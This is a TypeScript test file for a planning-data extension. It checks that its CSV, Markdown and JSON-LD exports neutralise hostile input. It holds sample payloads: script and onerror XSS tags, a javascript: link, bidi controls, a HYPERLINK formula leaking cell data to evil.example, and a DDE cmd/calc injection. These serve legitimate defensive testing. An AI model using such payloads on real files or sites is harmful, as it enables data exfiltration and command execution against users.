/**
 * Hostile content in every export format (RELIABILITY.md H4): the four CSV writers defuse
 * formulas the same way (property), Markdown shows HTML, links and bidi controls as text, JSON and
 * JSON-LD round-trip the strings unchanged.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvField as dbCsvField, exportCsv } from '../../lib/db/csv';
import { csvField as cliCsvField, extractCsv } from '../../lib/cli/output';
import { csvField as panelCsvField } from '../../entrypoints/sidepanel/comparison-csv';
import { capturePlan } from '../../lib/db/capture';
import { highlightsToMarkdown, highlightsToJsonLd, jsonLdToHighlights } from '../../lib/export-highlights';
import type { HighlightRecord } from '../../lib/types';
import { freshDb, notice } from './db-fixtures';

const PAYLOADS = [
  `<img src=x onerror="window.__pwned=1">`,
  `<script>window.__pwned=2</script>`,
  `[link](javascript:window.__pwned=3)`,
  `<style>*{display:none}</style>`,
  '\u202e\u2066evil\u2069\u200f',
  '=HYPERLINK("http://evil.example/?"&A1)',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  'x'.repeat(2_000),
];

/** What a spreadsheet would run: a cell (after RFC 4180 unquoting) starting with = + - @ tab or CR, other than a plain number. */
const runsAsFormula = (cell: string) => /^[=@\t\r]/.test(cell) || (/^[+-]/.test(cell) && !/^[+-][\d.,%]+$/.test(cell));
const unquote = (field: string) => (field.startsWith('"') ? field.slice(1, -1).replace(/""/g, '"') : field);

describe('CSV writers defuse formulas (CSV injection)', () => {
  it.each([
    ['lib/db/csv (options: region panel)', dbCsvField],
    ['lib/cli/output (planlens extract --format csv)', cliCsvField],
    ['side panel comparison', panelCsvField],
  ])('%s: no generated cell runs as a formula; numbers stay numbers', (_name, field) => {
    for (const p of PAYLOADS) expect(runsAsFormula(unquote(field(p))), p.slice(0, 40)).toBe(false);
    fc.assert(
      fc.property(fc.string({ maxLength: 30 }), fc.constantFrom('', '=', '+', '-', '@', '\t', '\r'), (s, lead) => {
        expect(runsAsFormula(unquote(field(lead + s)))).toBe(false);
      }),
      { numRuns: 2_000 },
    );
    for (const n of ['-5', '+3.5%', '-1,000']) expect(unquote(field(n))).toBe(n);
  });

  it('exportCsv and planlens extract --format csv defuse page-derived names and texts', async () => {
    const db = freshDb('hostile-csv');
    const rows = [
      { name: '=cmd|" /C calc"!A0 指标', text: '+6<style>*{}</style>', indicator: 'x-evil1' },
      { name: '@SUM(1)指标', text: '=1+1', indicator: 'x-evil2' },
    ];
    const n = notice('嘉兴市', 2024, rows);
    await capturePlan(db, n, { url: 'https://www.jiaxing.gov.cn/a.html' });
    for (const csv of [await exportCsv(db, '嘉兴市'), extractCsv(n)]) {
      const cells = csv.replace(/^\uFEFF/, '').split('\r\n').flatMap((l) => l.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)).map(unquote);
      expect(cells.filter(runsAsFormula)).toEqual([]);
      expect(csv).toContain(`'=1+1`);
    }
    db.close();
  });
});

describe('highlight exports keep hostile notes and tags as text', () => {
  const hl: HighlightRecord = {
    id: 'h1',
    url: 'https://www.jiaxing.gov.cn/a.html',
    planId: null,
    selectors: [{ type: 'TextQuoteSelector', exact: '<b>固定</b>', prefix: '', suffix: '' }],
    exact: '<b>固定</b>资产投资',
    note: PAYLOADS.join('\n'),
    tags: PAYLOADS.slice(0, 6),
    color: 'yellow',
    createdAt: 1,
    updatedAt: 2,
  };

  it('Markdown: no raw HTML tag, no link but the source link', () => {
    const md = highlightsToMarkdown([hl], { lang: 'en' });
    // Outside code spans (tags), every < is escaped, and no [..](javascript:) link exists.
    const outsideCode = md.replace(/`[^`]*`/g, '');
    expect(outsideCode).not.toMatch(/(^|[^\\])<[a-z/]/i);
    expect(outsideCode).not.toMatch(/(^|[^\\])\]\(javascript:/i);
    expect(outsideCode.match(/(^|[^\\])\]\(/g)).toHaveLength(1);
  });

  it('JSON-LD: notes and tags round-trip unchanged', () => {
    const back = jsonLdToHighlights(JSON.parse(JSON.stringify(highlightsToJsonLd([hl]))));
    expect(JSON.stringify(back)).toContain(JSON.stringify(hl.note).slice(1, -1));
  });
});
